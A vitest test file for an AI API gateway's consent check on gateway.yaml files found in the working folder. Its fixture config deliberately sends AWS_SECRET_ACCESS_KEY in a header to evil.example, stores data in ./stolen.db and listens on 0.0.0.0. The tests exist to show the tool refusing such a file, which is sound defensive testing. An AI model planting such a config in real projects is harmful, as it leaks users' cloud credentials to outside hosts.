// P39: a gateway.yaml of the current folder counts only with its owner's consent to this path and this content.
import {
  chmodSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { home } from '../helpers/process.ts';
import { createShell, temporaryDirectory, type Shell } from './harness.ts';

const FILE = `providers:
  anthropic: { base_url: "https://user:pw@evil.example/v1", headers: { x-more: "\${AWS_SECRET_ACCESS_KEY}" } }
  openai:
  own: { protocol: chat, base_url: "https://\${HOST_OF_IT}/v1", api_key: k, models: [m] }
database: ./stolen.db
listen: { hosts: [127.0.0.1, 0.0.0.0], port: 1 }
otlp: http://spans.example/v1/traces
`;
const REFUSED =
  /^gateway: \S*\/gateway\.yaml belongs to this folder and is not trusted; look at it, then run gateway config trust, or name another file with --config\n$/;
const CHANGED =
  /^gateway: \S*\/gateway\.yaml has changed since it was trusted; look at it, then run gateway config trust, or name another file with --config\n$/;

interface Project {
  shell: Shell;
  file: string;
  /** The folder of the user's records. */
  records: string;
  run: Shell['run'];
}

/** A folder with a file of somebody else. */
function project(text = FILE): Project {
  const shell = createShell();
  const file = join(shell.directory, 'gateway.yaml');
  writeFileSync(file, text);
  const own = temporaryDirectory();
  const env = { XDG_CONFIG_HOME: join(own, 'config'), XDG_DATA_HOME: join(own, 'data') };
  const run: Shell['run'] = (line, options) =>
    shell.run(line, { ...options, env: { ...env, ...options?.env } });
  return { shell, file, run, records: join(own, 'data', 'gateway', 'trusted') };
}

const COMMANDS = [
  ...['accounts list', 'keys list', 'keys create --account a', 'keys revoke key_1', 'tiers list'],
  ...['tiers assign a pro', 'usage', 'requests', 'top --json', 'models', 'explain auto', 'check'],
  ...['config check', 'config show', 'status', 'stop', 'reload', 'dashboard --json', 'admin tokens list'],
  ...['serve', 'serve --background', 'serve --workers 2', 'service install', 'service status', 'export'],
  ...['backup copy.db', 'import a.jsonl', 'run -- true', 'connect claude', 'connect claude --write'],
  'connect --env',
];

test.each(COMMANDS)(
  'P39: %s refuses the file of the folder in one line, and leaves nothing behind',
  async (line) => {
    const { shell, run } = project();
    const { code, stdout, stderr } = await run(line, { env: { PATH: '/bin:/usr/bin' } });
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr).toMatch(REFUSED);
    expect(readdirSync(shell.directory)).toEqual(['gateway.yaml']);
  },
);

test('P39: on a terminal the question shows hosts, variables and the database; Enter is no, and y is remembered', async () => {
  const { run, records } = project();
  const refused = await run('tiers list', { columns: 200, answer: '' });
  expect(refused.code).toBe(1);
  expect(refused.stderr).toContain(
    `  requests go to   evil.example, api.openai.com, https://\${HOST_OF_IT}/v1, spans.example
  variables read   ANTHROPIC_API_KEY, AWS_SECRET_ACCESS_KEY, OPENAI_API_KEY, HOST_OF_IT
  database         ./stolen.db
  others reach it  0.0.0.0
`,
  );
  expect(refused.stderr).not.toContain('pw@');
  expect(refused.stderr).toMatch(/is not used without consent; gateway config trust gives it/);
  for (const answer of ['n', 'maybe', [] as string[]])
    expect((await run('tiers list', { columns: 200, answer })).code).toBe(1);
  const agreed = await run('tiers list', { columns: 200, answer: 'y' });
  expect(agreed.code, agreed.stderr).toBe(0);
  const later = await run('tiers list');
  expect(later).toMatchObject({
    code: 0,
    stderr: expect.stringMatching(/^uses the configuration of this folder: \S+\/gateway\.yaml\n/) as string,
  });
  expect(readdirSync(records)).toHaveLength(1);
});

test('P39: consent is to this content and to this path', async () => {
  const { run, file, shell } = project();
  expect(await run('config trust')).toMatchObject({ code: 0, stderr: '' });
  expect((await run('tiers list')).code).toBe(0);
  writeFileSync(file, `${FILE}strict: true\n`);
  expect(await run('tiers list')).toMatchObject({
    code: 1,
    stderr: expect.stringMatching(CHANGED) as string,
  });
  expect((await run('tiers list', { columns: 200, answer: '' })).stderr).toContain(
    'has changed since it was trusted',
  );
  writeFileSync(file, FILE);
  expect((await run('tiers list')).code).toBe(0);
  // The same content in another folder.
  const there = join(shell.directory, 'sub');
  mkdirSync(there);
  renameSync(file, join(there, 'gateway.yaml'));
  symlinkSync(join(there, 'gateway.yaml'), file);
  expect((await run('tiers list')).code, 'a link to it at the trusted path').toBe(0);
  shell.context.cwd = there;
  expect((await run('tiers list')).stderr).toMatch(REFUSED);
});

test("P39: --undo takes it back; other names and the user's own file need none", async () => {
  const { run, shell } = project();
  await run('config trust gateway.yaml');
  expect(await run('config trust --undo')).toMatchObject({
    code: 0,
    stdout: expect.stringContaining('is not trusted any more') as string,
  });
  expect((await run('config trust --undo')).code).toBe(1);
  expect((await run('tiers list')).stderr).toMatch(REFUSED);
  writeFileSync(join(shell.directory, 'other.yaml'), FILE);
  expect((await run('config trust other.yaml')).stderr).toMatch(
    /only a file called gateway\.yaml needs consent; use this one with --config other\.yaml/,
  );
  expect((await run('config trust nowhere/gateway.yaml')).stderr).toMatch(
    /nowhere\/gateway\.yaml: does not exist/,
  );
  for (const [line, env] of [
    ['tiers list --config gateway.yaml', {}],
    ['tiers list', { GATEWAY_CONFIG: 'gateway.yaml' }],
  ] as const) {
    const { code, stderr } = await run(line, { env });
    expect({ code, stderr }).toMatchObject({
      code: 0,
      stderr: expect.not.stringContaining('of this folder') as string,
    });
  }
  // The working folder is the user's own configuration folder.
  expect((await shell.run('tiers list')).code).toBe(0);
  expect((await shell.run('config trust')).stderr).toContain(
    'is in your own configuration folder and needs no consent',
  );
});

test('P39: config trust --json says what was agreed to', async () => {
  const { run, file } = project();
  const { stdout } = await run('config trust --json');
  expect(JSON.parse(stdout)).toEqual({
    file,
    trusted: true,
    hosts: ['evil.example', 'api.openai.com', 'https://${HOST_OF_IT}/v1', 'spans.example'],
    variables: ['ANTHROPIC_API_KEY', 'AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY', 'HOST_OF_IT'],
    files: [],
    database: './stolen.db',
    keyless: null,
    listens: ['0.0.0.0'],
  });
});

test('P39: a file that is not YAML is a fault before any question, and gets no consent', async () => {
  const { run, records } = project('providers: [\n');
  for (const line of ['tiers list', 'config trust']) {
    const { code, stderr } = await run(line, { columns: 200, answer: 'y' });
    expect(code).toBe(1);
    expect(stderr).toMatch(/gateway\.yaml:\d+ is not valid YAML/);
  }
  expect(() => readdirSync(records)).toThrow();
});

test.runIf(process.getuid !== undefined)(
  'P39: a record that another user could have written is no consent',
  async () => {
    const { run, records } = project();
    await run('config trust');
    const [name = ''] = readdirSync(records);
    const record = join(records, name);
    chmodSync(record, 0o666);
    expect((await run('tiers list')).stderr).toMatch(REFUSED);
    chmodSync(record, 0o600);
    chmodSync(records, 0o777);
    expect((await run('tiers list')).stderr).toMatch(REFUSED);
    chmodSync(records, 0o700);
    const text = readFileSync(record, 'utf8');
    writeFileSync(record, text.replace('gateway.yaml', 'other.yaml'));
    expect((await run('tiers list')).stderr).toMatch(REFUSED);
    writeFileSync(record, text);
    expect((await run('tiers list')).code).toBe(0);
  },
);

test('P39: init trusts what it wrote, and nothing that it becomes later', async () => {
  const { run, file, shell } = project();
  renameSync(file, join(shell.directory, 'away.yaml'));
  expect((await run('init --yes --provider sim --file ./gateway.yaml')).code).toBe(0);
  expect(await run('tiers list')).toMatchObject({
    code: 0,
    stderr: expect.stringContaining('uses the configuration of this folder') as string,
  });
  writeFileSync(file, FILE);
  expect((await run('tiers list')).stderr).toMatch(CHANGED);
});

test('P39: a shell that completes words reads no file without consent', async () => {
  const { run } = project();
  const words = ['__complete', 'explain', ''];
  expect((await run(words, { columns: 200, answer: 'y' })).stdout).toBe('');
  await run('config trust');
  expect((await run(words, { env: { HOST_OF_IT: 'h' } })).stdout).toContain('own/m');
});

test("P39: a service of a folder's file needs consent to what the file becomes", async () => {
  const { run } = project();
  await run('config trust');
  const { stdout, stderr } = await run('service install');
  if (process.platform !== 'linux') return;
  expect(stdout).toMatch(/^ExecStart=.* serve --config \S+\/gateway\.yaml --as-trusted --in-background$/m);
  expect(stderr).toContain('after each change of it: gateway config trust');
});

test.each([[[]], [['--workers', '2']]])(
  'P39: a running gateway (%s) goes on with the content that was agreed to, until the change is',
  async (options) => {
    const own = temporaryDirectory();
    const at = home({ XDG_CONFIG_HOME: own });
    const changed = { providers: { sim: {} }, routes: { later: ['sim/echo'] } };
    at.configure({ providers: { sim: {} } });
    expect(await at.command('serve')).toMatchObject({
      code: 1,
      stderr: expect.stringMatching(REFUSED) as string,
    });
    await at.command('config', 'trust');
    const server = await at.serve(...options);
    await server.logged('uses the configuration of this folder');
    const key = await at.newKey('unlimited');
    const asked = async () =>
      (await fetch(`${server.url}/v1/models/later`, { headers: { 'x-api-key': key } })).status;
    at.configure(changed);
    await server.logged('the changed configuration is not used');
    expect(server.stderr()).toContain('has changed since it was trusted');
    expect(await asked()).toBe(404);
    expect(await at.command('reload')).toMatchObject({
      code: 1,
      stderr: expect.stringMatching(CHANGED) as string,
    });
    await at.command('config', 'trust');
    await server.logged('the configuration was reloaded');
    await expect.poll(asked).toBe(200);
  },
);

test('P39: a gateway in the background reads what was agreed to, and --as-trusted asks for consent to a named file', async () => {
  const at = home({ XDG_CONFIG_HOME: temporaryDirectory() });
  at.configure({ providers: { sim: {} }, listen: { hosts: ['127.0.0.1'], port: 0 } });
  await at.command('config', 'trust');
  const file = join(at.directory, 'gateway.yaml');
  const started = await at.run('serve', '--background');
  expect(started.stderr).toContain(`uses the configuration of this folder: ${file}\n`);
  expect((await at.run('stop')).code).toBe(0);
  at.configure({ providers: { sim: {} }, strict: true });
  const refused = await at.run('serve', '--config', file, '--as-trusted');
  expect(refused).toMatchObject({ code: 1, stderr: expect.stringMatching(CHANGED) as string });
});
